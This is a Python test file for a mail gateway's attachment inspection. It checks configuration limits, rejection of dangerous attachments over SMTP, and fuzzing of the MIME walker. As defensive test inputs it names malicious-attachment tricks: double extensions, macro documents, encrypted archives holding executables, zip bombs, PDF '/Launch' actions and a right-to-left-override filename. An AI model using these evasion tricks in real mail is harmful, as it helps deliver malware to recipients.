    (tmp_path / "directory.yaml").write_text("agencies: []\n")
    path = tmp_path / "gateway.yaml"
    path.write_text(
        "hostname: mailgw.test\ndirectory: directory.yaml\npolicies: policies\ndatabase: sqlite:///x.db\n"
        "spool: spool\nlisteners:\n  - name: mx\n    role: mx\n    listen: 127.0.0.1:2525\n"
        "routes:\n  local: mx\n  remote: mx\n" + section)
    return path


def test_settings_attachments_section(tmp_path, test_ca):
    from mailgw.config import settings

    (tmp_path / "roots.pem").write_bytes(test_ca.ca_pem())
    s = settings.load(str(_settings(tmp_path, "attachments:\n  max_depth: 12\n  max_decoded_size: 40M\n"
                                               "  max_archive_ratio: 250\n  time_budget: 3s\n  trust_store: roots.pem\n")))
    a = s.attachments
    assert (a.max_depth, a.max_decoded_size, a.max_archive_ratio, a.time_budget) == (12, 40 * 1024 * 1024, 250.0, 3.0)
    assert a.trust_store == str(tmp_path / "roots.pem") and a.max_parts == 500
    assert settings.load(str(_settings(tmp_path, ""))).attachments == AttachmentLimits()


@pytest.mark.parametrize("section, message", [
    ("attachments:\n  max_depht: 3\n", "max_depht"),
    ("attachments:\n  max_depth: 0\n", "'max_depth' must be a whole number above 0"),
    ("attachments:\n  max_depth: 1000\n", "'max_depth' must be at most 100"),
    ("attachments:\n  max_archive_ratio: 0.5\n", "'max_archive_ratio' must be a number of at least 1"),
    ("attachments:\n  max_decoded_size: lots\n", "'max_decoded_size' must be a size like 10M"),
    ("attachments:\n  time_budget: 0s\n", "'time_budget' must be above 0"),
    ("attachments:\n  trust_store: nowhere.pem\n", "does not exist"),
    ("attachments:\n  trust_store: gateway.yaml\n", "is not a PEM or DER certificate"),
])
def test_settings_attachments_errors_name_the_line(tmp_path, section, message):
    from mailgw.config import settings
    from mailgw.config.yamlfile import ConfigError

    path = _settings(tmp_path, section)
    with pytest.raises(ConfigError) as err:
        settings.load(str(path))
    text = str(err.value)
    assert message in text and f"{path}:" in text


# --- Over SMTP --------------------------------------------------------------------


async def test_dangerous_attachments_are_refused_by_name_and_the_record_keeps_the_facts(gateway, sink, signed_pdf):
    records = keep_records(gateway)
    raw = fx.mail(fx.attachment(PE, ctype="application/pdf", filename="baocao.pdf.exe"),
                  fx.attachment(fx.ooxml_word(macro_enabled=True, vba=fx.vba_project_bin()), filename="kehoach.docm"),
                  fx.attachment(fx.zipcrypto_zip([("a.exe", PE)]), filename="matkhau.zip"),
                  fx.attachment(signed_pdf, ctype="application/pdf", filename="quyetdinh.pdf"))
    with pytest.raises(aiosmtplib.SMTPDataError) as err:
        await send(gateway, "relay", raw, SENDER, [RCPT])
    assert err.value.code == 550 and err.value.message.startswith("5.7.1 ")
    for name in ("baocao.pdf.exe", "kehoach.docm", "matkhau.zip"):
        assert name in err.value.message
    assert "quyetdinh.pdf" not in err.value.message
    (rec,) = records
    assert (rec["decision"]["decision"], rec["decision"]["rule"]) == ("reject", "dangerous-attachment")
    facts = rec["attachments"]
    assert facts["count"] == 5 and not facts["ambiguous"] and facts["signed_any"]
    by_location = {f["location"]: f for f in facts["files"]}
    assert by_location["2"]["dangerous"] == ["executable", "double_extension", "type_mismatch_executable"]
    assert by_location["3"]["dangerous"] == ["macro"]
    assert by_location["4"]["dangerous"] == ["encrypted_archive"] and by_location["4!a.exe"]["encrypted"]
    assert by_location["5"]["pdf"]["signers"] == ["Nguyễn Văn An"]
    assert sink.messages == []


def test_the_header_view_of_a_message_does_not_hold_its_body():
    from mailgw.message.model import Envelope, Message

    raw = fx.mail(fx.attachment(b"\x00" * 100_000, filename="a.bin"))
    msg = Message("x", Envelope("", [], "relay", "relay", "127.0.0.1"), raw)
    assert msg.headers["Subject"] == "Báo cáo tháng 11" and msg.headers.get_payload() == ""
    assert msg.parsed.get_content_type() == "multipart/mixed" and len(msg.parsed.get_payload()) == 2


# --- Fuzz ----------------------------------------------------------------------------

_FUZZ_LIMITS = AttachmentLimits(max_depth=4, max_parts=25, max_decoded_size=20_000, max_archive_members=20,
                                max_archive_total=50_000, max_archive_depth=2, time_budget=2.0)
_header_names = st.sampled_from(["Content-Type", "Content-Disposition", "Content-Transfer-Encoding", "X-Other"])
_header_values = st.one_of(
    st.sampled_from(["multipart/mixed; boundary=\"b\"", "multipart/alternative; boundary=b", "message/rfc822",
                     "application/pdf; name=\"a.pdf.exe\"", "attachment; filename*0*=utf-8''%E2%80%AEa; filename*1=.exe",
                     "base64", "quoted-printable", "x-uuencode", "text/plain", "=?utf-8?B?YXR0YWNobWVudA==?="]),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
)
_bodies = st.one_of(
    st.binary(max_size=300),
    st.sampled_from([fx.b64(PE), fx.b64(fx.zip_bytes([("a.exe", PE)])), b"--b\r\n", b"--b--\r\n", b"=\r\n",
                     fx.b64(fx.zip_bomb(2 * 1024 * 1024)), b"%PDF-1.7\n/JavaScript /Launch",
                     fx.b64(fx.nested_zip(4, ("x.js", b"x"))), b"begin 644 a.exe\r\n"]),
)


@st.composite
def _mime(draw: Any, depth: int = 0) -> bytes:
    headers = draw(st.lists(st.tuples(_header_names, _header_values), max_size=4))
    lines = "".join(f"{k}: {v}\r\n".replace("\r\n\r\n", "\r\n") for k, v in headers).encode("utf-8", "surrogateescape")
    if depth < 4 and draw(st.booleans()):
        children = draw(st.lists(_mime(depth + 1), max_size=4))
        boundary = draw(st.sampled_from([b"b", b"b1", b"c"]))
        body = b"".join(b"--" + boundary + b"\r\n" + c + b"\r\n" for c in children)
        if draw(st.booleans()):
            body += b"--" + boundary + b"--\r\n"
        lines = b"Content-Type: multipart/mixed; boundary=" + boundary + b"\r\n" + lines
    else:
        body = draw(_bodies)
    return lines + b"\r\n" + body


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(_mime())
def test_the_walker_never_raises_and_keeps_to_its_budgets(raw):
    result = inspect_message(b"From: a@b.vn\r\nMIME-Version: 1.0\r\n" + raw, _FUZZ_LIMITS)
    assert set(result) == {"count", "total_size", "ambiguous", "ambiguous_reason", "ambiguous_parts", "signed_any",
                           "files"}
    assert result["count"] == len(result["files"])
    assert result["ambiguous"] == (result["ambiguous_reason"] is not None)
    top = [f for f in result["files"] if not f["in_archive"]]
    members = [f for f in result["files"] if f["in_archive"]]
    assert len(top) <= _FUZZ_LIMITS.max_parts and len(members) <= _FUZZ_LIMITS.max_archive_members
    assert result["total_size"] <= _FUZZ_LIMITS.max_decoded_size
    assert all(f["depth"] <= _FUZZ_LIMITS.max_archive_depth for f in result["files"])
    assert all(set(f["dangerous"]) <= set(DANGEROUS) for f in result["files"])
    assert all(f["archive"]["expanded"] >= 0 for f in result["files"] if f["archive"])
